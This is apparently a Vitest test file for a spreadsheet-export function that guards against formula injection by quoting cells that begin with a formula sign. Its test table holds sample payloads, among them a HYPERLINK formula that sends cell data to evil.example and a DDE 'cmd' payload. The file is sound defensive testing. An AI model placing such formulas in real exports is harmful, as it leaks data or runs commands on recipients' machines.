/** Formula neutralisation (issue 7, item 6): one table of hostile and harmless cells. */
import { describe, expect, test } from 'vitest';
import { neutraliseFormula, type ExportValue } from '$lib/server/export/neutralise';

const CASES: [what: string, cell: ExportValue, exported: ExportValue][] = [
	['a formula', '=1+1', "'=1+1"],
	['a link that phones home', '=HYPERLINK("http://evil.example/?"&A1,"klik")', `'=HYPERLINK("http://evil.example/?"&A1,"klik")`],
	['a plus', '+1', "'+1"],
	['a minus (as text)', '-1', "'-1"],
	['an at sign', '@SUM(A1)', "'@SUM(A1)"],
	['a tab first', '\t=1', "'\t=1"],
	['a carriage return first', '\r=1', "'\r=1"],
	['a line break first', '\n=1', "'\n=1"],
	['a formula over two lines', '=1\n2', "'=1\n2"],
	['a formula over two lines with CRLF', '=cmd|" /C calc"!A0\r\nx', `'=cmd|" /C calc"!A0\r\nx`],
	['spaces, then a formula', '  =1', "'  =1"],
	['a non-breaking space, then a plus', '\u00a0+1', "'\u00a0+1"],
	['a full-width equals sign', '＝1+1', "'＝1+1"],
	['a text with a formula on its second line (one quoted cell beginning with "a")', 'a\n=1', 'a\n=1'],
	['a plain name', 'Pemerintah Provinsi Aceh', 'Pemerintah Provinsi Aceh'],
	['"ok"', 'ok', 'ok'],
	['an equals sign inside', 'a=1', 'a=1'],
	['a sum written as text, not starting with a sign', '1+1', '1+1'],
	['an apostrophe already first', "'=1", "'=1"],
	['empty text', '', ''],
	['nothing', null, null],
	['a number', 96.5, 96.5],
	['a negative number (a real number stays a number)', -1, -1],
	['zero', 0, 0]
];

// A clock reading is written as a date, never as text: the very same value passes through.
const READING = new Date(Date.UTC(2026, 10, 28, 8, 30));
CASES.push(['a clock reading (a date stays a date)', READING, READING]);

describe('neutraliseFormula', () => {
	test.each(CASES)('%s', (_, cell, exported) => {
		expect(neutraliseFormula(cell)).toBe(exported);
	});
});
